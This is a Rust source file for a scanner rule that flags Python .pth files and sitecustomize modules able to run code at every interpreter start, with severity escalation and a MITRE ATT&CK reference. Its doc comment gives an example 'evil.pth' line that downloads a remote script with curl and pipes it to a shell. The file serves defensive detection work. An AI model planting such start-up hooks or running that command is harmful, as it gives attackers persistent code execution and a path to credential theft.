use crate::finding::{Finding, Location, Severity};
use crate::python::{ExecContext, FileRole};
use crate::rules::helpers::capabilities::check_file;
use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};

declare_rule! {
    /// Code that runs at every start of the Python interpreter: executable
    /// `.pth` lines and `sitecustomize`/`usercustomize` modules.
    ///
    /// ## What it finds
    /// Lines of a `.pth` file that start with `import` (the `site` module
    /// executes them), and `sitecustomize.py`/`usercustomize.py` shipped in a
    /// package. Each is reported; when that code spawns processes, touches
    /// the network or writes files, those calls are reported too, as for
    /// install-time code.
    ///
    /// ## Why it matters
    /// Once installed, this code runs in every Python process on the machine
    /// or environment — including ones that never import the package — which
    /// makes it a favourite for persistence and credential theft. A few
    /// legitimate packages use one short `.pth` line to install an import
    /// hook, so the line alone is medium; with process, network or file
    /// activity it is critical.
    ///
    /// ## Example
    /// ```text
    /// # evil.pth
    /// import os; os.system("curl -s http://203.0.113.7/p | sh &")
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1546.018 (Event Triggered Execution: Python Startup Hooks).
    pub struct PthExecution {
        id: "AY102",
        slug: "startup-execution",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for PthExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let startup = match file.role {
                Some(FileRole::Pth) => file
                    .calls
                    .first()
                    .map(|c| c.line)
                    .or_else(|| file.imports.first().map(|i| i.line)),
                Some(FileRole::SiteCustomize) => Some(1),
                _ => None,
            };
            let Some(line) = startup else { continue };
            let what = if file.role == Some(FileRole::Pth) {
                "executable `.pth` line: runs at every interpreter start"
            } else {
                "interpreter start-up module: runs at every interpreter start"
            };
            let mut f = Self::META.finding(Location::at(file.path.clone(), line, 1), what);
            f.severity = Severity::Medium;
            f.context = Some(ExecContext::Startup);
            f.excerpt = file.excerpt(line);
            out.push(f);
            let before = out.len();
            check_file(&Self::META, file, ExecContext::Startup, &[], out);
            for f in &mut out[before..] {
                f.severity = f.severity.max(Severity::High);
                if f.severity == Severity::High {
                    f.severity = Severity::Critical;
                }
            }
        }
    }
}
